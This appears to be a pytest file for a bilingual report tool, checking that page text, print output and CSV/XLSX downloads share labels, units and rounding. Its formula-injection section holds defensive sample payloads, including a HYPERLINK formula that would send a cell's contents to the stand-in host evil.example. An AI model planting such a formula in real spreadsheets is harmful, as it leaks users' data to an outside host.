"""The view model is the one source of what a view says (issue 14): the page text layer
(render.Text) and the print builder look segments up through view.LangView; the CSV and XLSX
downloads are made of the same cells as the page table, so a label, a unit or a rounding cannot
differ between them; and no text cell of a download is a spreadsheet formula.

Expected values are written here by hand or taken from the committed CSV and the unit's
definition (1 亿美元 = 0.1 USD billion), never produced by the code under test."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest

from bireport import tables as T
from bireport.i18n import Catalog
from bireport.render import Text, heading_notes
from bireport.tables.downloads import csv_bytes, xlsx_bytes
from bireport.view import LangView, heading_note, table_view

ROOT = Path(__file__).resolve().parent.parent
TABLES = ROOT / "data" / "tables"
PO_HEAD = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'


def _catalog(tmp_path: Path, body: str) -> Catalog:
    (tmp_path / "en").mkdir(exist_ok=True)
    (tmp_path / "en" / "d.po").write_text(PO_HEAD + body, encoding="utf-8")
    return Catalog(tmp_path)


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- text: one lookup

ENTRY = 'msgctxt "d/s1/p1"\nmsgid "第一段。"\nmsgstr "The first paragraph."\n'


def test_page_text_layer_is_the_view_models_lookup(tmp_path):
    cat = _catalog(tmp_path, ENTRY)
    stats: dict = {}
    t = Text("en", cat, None, stats)
    assert isinstance(t, LangView)
    assert t.get("d/s1/p1", "第一段。") == ("The first paragraph.", True)
    # a missing translation: the Chinese, marked, and counted once in the page statistics
    md = t.para("d/s1/p2", "第二段。")
    assert "第二段。" in md and 'class="untranslated"' in md and 'lang="zh"' in md
    assert stats["untranslated"] == ["d/s1/p2"]
    # a stale translation (the source changed) is not shown either
    assert LangView("en", cat).segment("d/s1/p1", "第一段（改）。").fallback


def test_heading_note_is_the_same_on_the_page_and_in_print(tmp_path):
    from bireport.pdf import Builder

    cat = _catalog(tmp_path, 'msgctxt "d/s2/note1"\nmsgid "标题为编者所加"\nmsgstr "Title supplied by the editors"\n')
    ctx = SimpleNamespace(docs=[], cat=cat, tables={})
    doc = SimpleNamespace(id="d")
    cases = {   # note in the corrections file -> what an English reader sees (hand-written)
        ("s1", "标题为编者所加 / Title added by the editor"): ("Title added by the editor", False),
        ("s2", "标题为编者所加 / Title added by the editor"): ("Title supplied by the editors", False),  # PO wins
        ("s3", "标题为编者所加"): ("标题为编者所加", True),                                          # marked
    }
    for (sid, note), (text, fallback) in cases.items():
        seg = heading_note("d", sid, 1, note, LangView("en", cat))
        assert (seg.md, seg.fallback) == (text, fallback)
        assert seg.lang == ("zh" if fallback else "en")
        section = SimpleNamespace(id=sid, attrs={"notes": [note]})
        page = heading_notes(section, Text("en", cat, None, {}), "d")
        assert len(page) == 1 and text in page[0]
        printed = Builder(tmp_path, ctx, "en")._heading_note(doc, section, 1, note, "en")
        assert (printed.html, printed.fallback) == (text, fallback)
        # Chinese readers see the Chinese part everywhere
        assert heading_note("d", sid, 1, note, LangView("zh", cat)).md == "标题为编者所加"


def test_front_field_prefers_the_translation_memory_then_the_sources_english(tmp_path):
    doc = SimpleNamespace(id="d", front={"abstract": "摘要正文。", "abstract_en": "The source's own abstract."})
    seg = LangView("en", _catalog(tmp_path, "")).front_field(doc, "abstract")
    assert (seg.md, seg.lang, seg.fallback) == ("The source's own abstract.", "en", False)
    cat = _catalog(tmp_path, 'msgctxt "d/front/abstract"\nmsgid "摘要正文。"\nmsgstr "Reviewed abstract."\n')
    assert LangView("en", cat).front_field(doc, "abstract").md == "Reviewed abstract."
    assert LangView("zh", cat).front_field(doc, "abstract").md == "摘要正文。"
    bare = SimpleNamespace(id="d", front={"abstract": "摘要正文。"})
    assert LangView("en", _catalog(tmp_path, "")).front_field(bare, "abstract").fallback


def test_section_titles_use_one_numeral_rule(tmp_path):
    cat = _catalog(tmp_path, 'msgctxt "d/s3/title"\nmsgid "对外开放"\nmsgstr "Opening up"\n')
    s = SimpleNamespace(id="s3", number="三、", title="对外开放")
    assert LangView("en", cat).section_title("d", s) == "III. Opening up"
    assert LangView("zh", cat).section_title("d", s) == "三、 对外开放"


# ---------------------------------------------------------------- downloads: the page's cells

def _committed(tid: str) -> list[dict]:
    with (TABLES / f"{tid}.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _page_numbers(tv) -> list[str]:
    return sorted(c.text.replace(",", "") for row in tv.body for c in row if c.num)


@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("tid", ["zhao-liu-decoupling-2025-t1", "scio-whitepaper-2025-t1",
                                 "zhao-liu-decoupling-2025-t6"])
def test_download_values_are_the_page_values(tid, lang):
    t = T.load_table(tid, TABLES)
    tv = table_view(t, lang)
    rows = _csv(csv_bytes(t, lang))
    vi = rows[0].index({"zh": "数值", "en": "Value"}[lang])
    assert sorted(r[vi] for r in rows[1:]) == _page_numbers(tv)
    assert "source_line" not in rows[0]
    # and they are the committed values after the unit conversion, at the precision shown
    factor = {"亿美元": 0.1}
    want = sorted(float(r["value"]) * (factor.get(r["unit"], 1.0) if lang == "en" else 1.0) for r in _committed(tid))
    got = sorted(float(r[vi]) for r in rows[1:])
    assert all(abs(g - w) <= 0.5 * 10 ** -len(s.split(".")[-1]) + 1e-9
               for g, w, s in zip(got, want, sorted((r[vi] for r in rows[1:]), key=float)))


def test_english_download_of_paper_table_1_is_in_usd_billion():
    t = T.load_table("zhao-liu-decoupling-2025-t1", TABLES)
    zh_2012 = [r for r in _committed(t.id) if r.get("year") == "2012" and r["unit"] == "亿美元"]
    assert zh_2012, "the committed CSV has 2012 values in 亿美元"
    rows = _csv(csv_bytes(t, "en"))
    head = rows[0]
    assert "USD billion" in {r[head.index("Unit")] for r in rows[1:]}
    assert not any(re.search(r"[\u4e00-\u9fff]", cell) for r in rows for cell in r)
    got = {float(r[head.index("Value")]) for r in rows[1:] if r[head.index("Year")] == "2012"}
    for r in zh_2012:                        # 4 862.04 亿美元 -> 486.2 USD billion
        assert any(abs(g - float(r["value"]) / 10) < 0.05 for g in got), r


def test_a_label_or_rounding_changed_in_the_view_model_reaches_page_csv_and_xlsx(monkeypatch):
    """Page, CSV and XLSX take labels and decimals from the same place: change them there once."""
    t = T.load_table("zhao-liu-decoupling-2025-t2", TABLES)
    real_label = T.label_text
    monkeypatch.setattr(T, "label_text", lambda table, key, lang, tr=None: "«" + real_label(table, key, lang, tr) + "»")
    monkeypatch.setattr(T, "decimals", lambda table, lang="zh": _AllThree())
    tv = table_view(t, "en")
    page_labels = {c.text for row in tv.body for c in row if c.header}
    assert page_labels and all(x.startswith("«") for x in page_labels if not x.isdigit())
    rows = _csv(csv_bytes(t, "en"))
    series = {r[rows[0].index("Series")] for r in rows[1:]}
    assert series and all(s.startswith("«") and s.endswith("»") for s in series)
    values = [r[rows[0].index("Value")] for r in rows[1:]]
    assert values and all(re.fullmatch(r"-?\d+\.\d{3}", v) for v in values)
    assert all(re.fullmatch(r"-?[\d,]+\.\d{3}", x) for x in _page_numbers(tv))
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([t], "en")))[t.id[-31:]]
    head = [c.value for c in ws[3]]
    cells = [dict(zip(head, row)) for row in ws.iter_rows(min_row=4)]
    assert all(c["Series"].value.startswith("«") for c in cells)
    assert all(c["Value"].number_format == "0.000" for c in cells)


class _AllThree(dict):
    def __missing__(self, key):
        return 3


# ---------------------------------------------------------------- formula injection

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+国内", "@SUM(A1:A9)", "-其中：东部", "\t=1+1"]


@pytest.fixture
def hostile():
    meta = SimpleNamespace(id="doc", path=Path("data/sources/doc.md"), file="doc.md")
    pres = {"tables": {"doc-t9": {"chart": {"type": "small_multiples", "x": "series", "y": "value"}}},
            "labels": {}, "_path": "presentation.yaml", "_lines": {}}
    rows = [(3, "地区\t出口额/亿美元\t差额/亿美元"), (4, f"{HOSTILE[0]}\t12.5\t-3.2"), (5, f"{HOSTILE[1]}\t1.0\t2.0"),
            (6, f"{HOSTILE[2]}\t4.5\t-0.5"), (7, f"{HOSTILE[3]}\t2.0\t1.5")]
    item = SimpleNamespace(kind="table", attrs={"number": "9", "caption": "=1+1 测试表", "caption_line": 1,
                                                "rows": rows, "notes": []})
    return T.extract(meta, item, pres)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_hostile_labels_are_text_in_the_csv(hostile, lang):
    rows = _csv(csv_bytes(hostile, lang))
    head = rows[0]
    labels = {r[0] for r in rows[1:]}
    assert labels == {"'" + h for h in HOSTILE[:4]}       # shown as typed, never run
    values = [r[head.index({"zh": "数值", "en": "Value"}[lang])] for r in rows[1:]]
    want = ["12.5", "-3.2", "1.0", "2.0", "4.5", "-0.5", "2.0", "1.5"] if lang == "zh" else \
        ["1.25", "-0.32", "0.10", "0.20", "0.45", "-0.05", "0.20", "0.15"]
    assert values == want                                  # negative numbers stay numbers


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_hostile_labels_are_strings_in_the_xlsx(hostile, lang):
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([hostile], lang)))
    ws = wb[hostile.id]
    assert ws["A1"].data_type == "s" and ws["A1"].value.endswith("=1+1 测试表")
    cells = list(ws.iter_rows(min_row=4))
    assert {r[0].value for r in cells} == set(HOSTILE[:4])
    assert all(r[0].data_type == "s" for r in cells)          # no formula ('f') anywhere
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    numbers = [r[-1].value for r in cells]
    assert all(isinstance(v, (int, float)) for v in numbers)          # numbers, not text
    assert {r[-1].number_format for r in cells} == {"0.0" if lang == "zh" else "0.00"}
    assert min(numbers) == (-3.2 if lang == "zh" else -0.32)


def test_inert_keeps_ordinary_text():
    from bireport.tables.downloads import inert

    assert inert("美国") == "美国" and inert("US exports") == "US exports" and inert("") == ""
    assert [inert(h)[0] for h in HOSTILE] == ["'"] * len(HOSTILE)
    assert inert("\rcmd") == "'\rcmd"


def test_download_field_names_come_from_the_ui_strings():
    """The data's field names are interface strings: the translation memory can change them."""
    t = T.load_table("zhao-liu-decoupling-2025-t2", TABLES)
    tr = lambda ctx, zh: "Amount" if ctx == "ui/table_field_value" else None   # noqa: E731
    head = _csv(csv_bytes(t, "en", tr))[0]
    assert "Amount" in head and "Value" not in head and "source_line" not in head
    assert _csv(csv_bytes(t, "zh", tr))[0][-1] == "数值"
